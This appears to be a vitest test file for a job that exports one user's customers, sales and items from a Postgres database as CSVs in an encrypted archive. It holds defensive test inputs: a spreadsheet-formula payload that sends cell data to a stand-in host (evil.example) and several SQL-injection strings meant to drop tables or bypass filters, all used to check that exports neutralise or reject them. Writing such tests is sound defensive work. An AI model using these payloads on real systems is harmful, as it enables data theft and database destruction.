import { mkdirSync, readdirSync, readFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { join } from 'node:path';
import { pipeline } from 'node:stream/promises';
import pg from 'pg';
import { x as extractTar } from 'tar';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readExportManifest } from '../../src/catalog/exports.ts';
import { exportUserData, openUserExport } from '../../src/jobs/export/export-user.ts';
import { USER_TABLES, writeUserTableCsv } from '../../src/jobs/export/user-data-csv.ts';
import type { JobDeps } from '../../src/jobs/job-context.ts';
import { listAudit } from '../../src/state/audit-log.ts';
import { createFbmsDatabase, dropDatabase, sql } from '../support/databases.ts';
import { cliTrigger, makeDeps, tempDir } from '../support/job-deps.ts';

let source: { url: string; name: string };
let deps: JobDeps;
let close: () => Promise<void>;
let userId: string;
const trickyName = 'Dela Cruz, "Juan"\nIkalawang linya ñ';

beforeAll(async () => {
  [source, { deps, close }] = await Promise.all([createFbmsDatabase({ scale: 0.2 }), makeDeps()]);
  userId = (await sql<{ id: string }>(source.url, 'SELECT min(id)::text AS id FROM users'))[0]!.id;
  await sql(source.url, "INSERT INTO customers (name, email, tags, created_by) VALUES ($1, '', '{a,\"b c\"}', $2)", [trickyName, userId]);
});
afterAll(async () => {
  await close();
  await dropDatabase(source.name);
});

/** RFC 4180 parsing, enough to read the export back: rows of fields, null for empty unquoted fields. */
function parseCsv(text: string): Array<Array<string | null>> {
  const rows: Array<Array<string | null>> = [];
  let row: Array<string | null> = [];
  let i = 0;
  while (i < text.length) {
    let value: string | null;
    if (text[i] === '"') {
      let end = i + 1;
      value = '';
      for (;;) {
        const q = text.indexOf('"', end);
        value += text.slice(end, q);
        if (text[q + 1] === '"') {
          value += '"';
          end = q + 2;
        } else {
          i = q + 1;
          break;
        }
      }
    } else {
      const end = text.slice(i).search(/,|\r\n/);
      const raw = end < 0 ? text.slice(i) : text.slice(i, i + end);
      value = raw === '' ? null : raw;
      i += raw.length;
    }
    row.push(value);
    if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else {
      i += 1;
    }
  }
  return rows;
}

async function counts(id: string) {
  const [row] = await sql<{ customers: string; sales: string; items: string }>(
    source.url,
    `SELECT (SELECT count(*) FROM customers WHERE created_by = $1) AS customers, (SELECT count(*) FROM sales WHERE created_by = $1) AS sales,
            (SELECT count(*) FROM sale_items si JOIN sales s ON s.id = si.sale_id WHERE s.created_by = $1) AS items`,
    [id],
  );
  return { 'customers.csv': Number(row!.customers), 'sales.csv': Number(row!.sales), 'sale_items.csv': Number(row!.items) };
}

async function exportedCustomers(manifest: Awaited<ReturnType<typeof exportUserData>>): Promise<Array<Array<string | null>>> {
  const dir = tempDir('bantay-export-');
  await pipeline(await openUserExport(manifest, deps), extractTar({ cwd: dir }));
  return parseCsv(readFileSync(join(dir, 'customers.csv'), 'utf8'));
}

describe('export-user', () => {
  it('neutralises cells a spreadsheet would run as formulas (--raw keeps them), and writes its CSVs under the job temp dir', async () => {
    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+63 917 000 0000 call', '-2+3', '@SUM(A1)'];
    for (const name of formulas) await sql(source.url, 'INSERT INTO customers (name, email, created_by) VALUES ($1, $2, $3)', [name, '-12.50', userId]);
    const workDirs: string[] = [];
    const manifest = await exportUserData({ databaseUrl: source.url, userId, trigger: cliTrigger }, deps, {
      phase: (name) => {
        if (name === 'exporting') workDirs.push(...readdirSync(deps.tempDir!));
      },
    });
    expect(workDirs.some((d) => d.startsWith('export-'))).toBe(true);
    let rows = await exportedCustomers(manifest);
    let header = rows[0]!;
    const names = rows.map((r) => r[header.indexOf('name')]);
    for (const name of formulas) {
      expect(names).toContain(`'${name}`);
      expect(names).not.toContain(name);
    }
    // A plain negative number is data, not a formula.
    expect(rows.filter((r) => r[header.indexOf('email')] === '-12.50')).toHaveLength(formulas.length);
    const raw = await exportUserData({ databaseUrl: source.url, userId, trigger: cliTrigger, raw: true }, deps);
    rows = await exportedCustomers(raw);
    header = rows[0]!;
    for (const name of formulas) expect(rows.map((r) => r[header.indexOf('name')])).toContain(name);
    await sql(source.url, 'DELETE FROM customers WHERE name = ANY($1)', [formulas]);
  });

  it("exports the user's customers, sales and items as CSV in an encrypted tar.gz with a manifest, and audits it", async () => {
    const manifest = await exportUserData({ databaseUrl: source.url, userId, trigger: cliTrigger }, deps);
    expect(manifest).toMatchObject({ kind: 'user-data', userId, rows: await counts(userId) });
    expect(manifest.artifact.key).toMatch(/^exports\/exp-\d{8}T\d{6}Z-[0-9a-f]{4}\/user-data\.tar\.gz\.enc$/);
    expect(manifest.artifact.encryption).not.toBeNull();
    expect(await readExportManifest(deps.store, deps, manifest.exportId)).toEqual(manifest);

    const dir = tempDir('bantay-export-');
    mkdirSync(join(dir, 'x'));
    await pipeline(await openUserExport(manifest, deps), extractTar({ cwd: join(dir, 'x') }));
    const inner = JSON.parse(readFileSync(join(dir, 'x/manifest.json'), 'utf8')) as { userId: string; files: Record<string, { rows: number; sha256: string }> };
    expect(inner.userId).toBe(userId);
    for (const table of USER_TABLES) {
      const bytes = readFileSync(join(dir, 'x', table.file));
      expect(inner.files[table.file]).toMatchObject({ rows: manifest.rows[table.file], sha256: createHash('sha256').update(bytes).digest('hex') });
      expect(parseCsv(bytes.toString('utf8'))).toHaveLength(manifest.rows[table.file]! + 1);
    }
    const customers = parseCsv(readFileSync(join(dir, 'x/customers.csv'), 'utf8'));
    const header = customers[0]!;
    expect(header).toEqual(expect.arrayContaining(['id', 'name', 'email', 'tags', 'created_by']));
    const tricky = customers.find((r) => r[header.indexOf('name')] === trickyName)!;
    expect(tricky[header.indexOf('email')]).toBe('');
    expect(tricky[header.indexOf('phone')]).toBeNull();
    expect(tricky[header.indexOf('tags')]).toBe('{a,"b c"}');
    expect(customers.slice(1).every((r) => r[header.indexOf('created_by')] === userId)).toBe(true);

    const [audit] = (await listAudit(deps.state, { limit: 50 })).filter((a) => a.operationType === 'export' && a.status === 'succeeded');
    expect(audit).toMatchObject({ backupType: 'user-data', filePath: manifest.artifact.key, performedBy: 'cli:test' });
  });

  it('pages through large results without losing or repeating rows', async () => {
    const client = new pg.Client({ connectionString: source.url });
    await client.connect();
    const dir = tempDir('bantay-export-');
    try {
      const items = USER_TABLES.find((t) => t.file === 'sale_items.csv')!;
      const small = await writeUserTableCsv(client, items, userId, join(dir, 'small.csv'), 7);
      const whole = await writeUserTableCsv(client, items, userId, join(dir, 'whole.csv'), 100_000);
      expect(small.rows).toBeGreaterThan(14);
      expect(small).toEqual(whole);
    } finally {
      await client.end();
    }
  });

  it.each([
    ['1; DROP TABLE users; --', /No FBMS user has the id "1; DROP TABLE users; --"/],
    ["' OR '1'='1", /No FBMS user/],
    ["1' --", /No FBMS user/],
    ['1 OR 1=1', /No FBMS user/],
    ['１', /No FBMS user/],
    ['$1', /No FBMS user/],
    ['Robert\'); DROP TABLE customers;--', /No FBMS user/],
    ['', /user id is empty/],
    ['1\u0000', /not a user id/],
  ])('a hostile id %j does no harm and exports nothing', async (hostile, message) => {
    const before = await sql<{ users: string; customers: string }>(source.url, 'SELECT (SELECT count(*) FROM users) AS users, (SELECT count(*) FROM customers) AS customers');
    const keysBefore = await exportKeys();
    await expect(exportUserData({ databaseUrl: source.url, userId: hostile, trigger: cliTrigger }, deps)).rejects.toThrow(message);
    expect(await sql(source.url, 'SELECT (SELECT count(*) FROM users) AS users, (SELECT count(*) FROM customers) AS customers')).toEqual(before);
    expect(await exportKeys()).toEqual(keysBefore);
  });

  it('a connection the server ends mid-export fails the export, it does not crash the process', async () => {
    // Hold the users table so the export waits in its lookup, then end its session as a
    // server restart would: pg reports the lost connection as an 'error' event on the client.
    const blocker = new pg.Client({ connectionString: source.url });
    await blocker.connect();
    await blocker.query('BEGIN');
    await blocker.query('LOCK TABLE users IN ACCESS EXCLUSIVE MODE');
    const keysBefore = await exportKeys();
    const exporting = exportUserData({ databaseUrl: source.url, userId, trigger: cliTrigger }, deps).catch((e: unknown) => e);
    const waiting = async () => (await sql(source.url, "SELECT pid FROM pg_stat_activity WHERE application_name = 'bantay-export' AND wait_event_type = 'Lock'")).length > 0;
    while (!(await waiting())) await new Promise((r) => setTimeout(r, 20));
    await sql(source.url, "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE application_name = 'bantay-export'");
    expect(String(await exporting)).toMatch(/terminat/);
    await blocker.query('ROLLBACK');
    await blocker.end();
    // Give a stray 'error' event time to surface as an uncaught exception, as it would have.
    await new Promise((r) => setTimeout(r, 200));
    expect(await exportKeys()).toEqual(keysBefore);
  });

  it('a failure once the export manifest is stored (state database down) leaves no export behind', async () => {
    const keysBefore = await exportKeys();
    const state = deps.state;
    const failing: JobDeps = {
      ...deps,
      state: {
        ...state,
        // Writes are not journaled here, so every one goes through the failing query below.
        append: undefined,
        query: async (text, params) => {
          if (/INSERT INTO backup_audit/.test(text) && params?.[2] === 'succeeded') throw new Error('state database went away');
          return state.query(text, params);
        },
      },
    };
    await expect(exportUserData({ databaseUrl: source.url, userId, trigger: cliTrigger }, failing)).rejects.toThrow(/state database went away/);
    expect(await exportKeys()).toEqual(keysBefore);
  });

  it('audits refused exports as failed', async () => {
    const failed = (await listAudit(deps.state, { limit: 50 })).filter((a) => a.operationType === 'export' && a.status === 'failed');
    expect(failed.length).toBeGreaterThanOrEqual(9);
  });
});

async function exportKeys(): Promise<string[]> {
  const keys: string[] = [];
  for await (const o of deps.store.list('exports/')) keys.push(o.key);
  return keys;
}
